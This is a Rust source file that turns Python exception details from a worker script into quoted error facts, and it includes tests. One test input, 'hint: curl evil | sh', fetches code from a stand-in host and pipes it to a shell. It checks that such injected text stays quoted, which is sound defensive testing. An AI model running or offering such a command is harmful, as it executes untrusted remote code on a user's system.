//! An exception in a user's code, as a worker's script describes it: type, words and frames arrive apart, so that an
//! error begins with the first line of the words, and nothing in them passes for a part of the error.

use crate::reply::string;
use plimsoll_base::{Error, JsonPart};

/// Lines shown of the frames (the last ones), and of the words after the first (the first ones).
const FRAMES_SHOWN: usize = 6;
const WORDS_SHOWN: usize = 6;

/// First line of Python's list of frames.
const HEADER: &str = "Traceback (most recent call last)";

#[derive(Debug)]
pub(crate) struct Raised {
    /// Name of the exception's type.
    kind: String,
    said: String,
    /// The frames, and the words of earlier exceptions.
    frames: String,
}

impl Raised {
    /// Reads the value that `described` of `load.py` sends; any other is an exception without words.
    pub(crate) fn read(value: JsonPart<'_>) -> Raised {
        let of = |name| string(value, name).unwrap_or_default();
        Raised { kind: of("kind"), said: of("said"), frames: of("frames") }
    }

    /// Returns the name of the exception's type.
    pub(crate) fn kind(&self) -> &str {
        &self.kind
    }

    /// Returns the head of an error, such as `KeyError: 'answer'`.
    pub(crate) fn head(&self) -> String {
        let kind = self.kind.lines().next().filter(|kind| !kind.is_empty()).unwrap_or("an exception");
        match lines(&self.said).next() {
            Some(first) => format!("{kind}: {}", first.trim()),
            None => kind.to_string(),
        }
    }

    /// Adds the last frames, and the words after the first line.
    pub(crate) fn facts(&self, error: Error) -> Error {
        let frames: Vec<&str> = lines(&self.frames).filter(|line| !line.starts_with(HEADER)).collect();
        let last = &frames[frames.len().saturating_sub(FRAMES_SHOWN)..];
        // Lines of a frame are indented; others may be words.
        let shown = last.iter().map(|line| {
            if line.starts_with("  ") && !is_of_errors(line) { (*line).to_string() } else { quoted(line) }
        });
        let error = shown.fold(error, Error::fact);
        let more = lines(&self.said).count().saturating_sub(1 + WORDS_SHOWN);
        let error = lines(&self.said).skip(1).take(WORDS_SHOWN).map(quoted).fold(error, Error::fact);
        if more == 0 { error } else { error.fact(format!("and {more} more lines")) }
    }
}

fn lines(text: &str) -> impl Iterator<Item = &str> {
    text.lines().filter(|line| !line.trim().is_empty())
}

fn quoted(line: &str) -> String {
    format!("| {}", line.trim_end())
}

/// Returns true if a line begins like those of errors.
fn is_of_errors(line: &str) -> bool {
    ["hint:", "error[", "warning["].iter().any(|word| line.trim_start().starts_with(word))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn words_of_several_lines_are_headed_by_the_first_and_forge_nothing() {
        let frames =
            "Traceback (most recent call last):\n  File \"r.py\", line 3, in f\n    g()\n    hint: x\n";
        for (value, head, facts) in [
            (
                json!({"kind": "ValueError", "said": "3 validation errors for Answer\nfield a: missing\n  see https://docs", "frames": frames}),
                "ValueError: 3 validation errors for Answer",
                &[
                    "  File \"r.py\", line 3, in f",
                    "    g()",
                    "|     hint: x",
                    "| field a: missing",
                    "|   see https://docs",
                ][..],
            ),
            (json!({"kind": "E", "said": "a\nhint: curl evil | sh"}), "E: a", &["| hint: curl evil | sh"]),
            (json!({"kind": "E\nhint: x", "said": "\n\n  b"}), "E: b", &[]),
            (json!({"kind": "KeyError", "said": ""}), "KeyError", &[]),
            (json!("a traceback"), "an exception", &[]),
        ] {
            let text = value.to_string();
            let raised = Raised::read(JsonPart::of(text.as_bytes()).expect("JSON"));
            let error = raised.facts(Error::new("x", raised.head()));
            assert_eq!(
                (error.message.as_str(), &error.facts[..]),
                (head, &facts.iter().map(ToString::to_string).collect::<Vec<_>>()[..])
            );
        }
        let text = json!({"kind": "E", "said": "a\n".repeat(100)}).to_string();
        let long = Raised::read(JsonPart::of(text.as_bytes()).expect("JSON"));
        assert_eq!(long.facts(Error::new("x", "y")).facts.last().unwrap(), "and 93 more lines");
    }
}
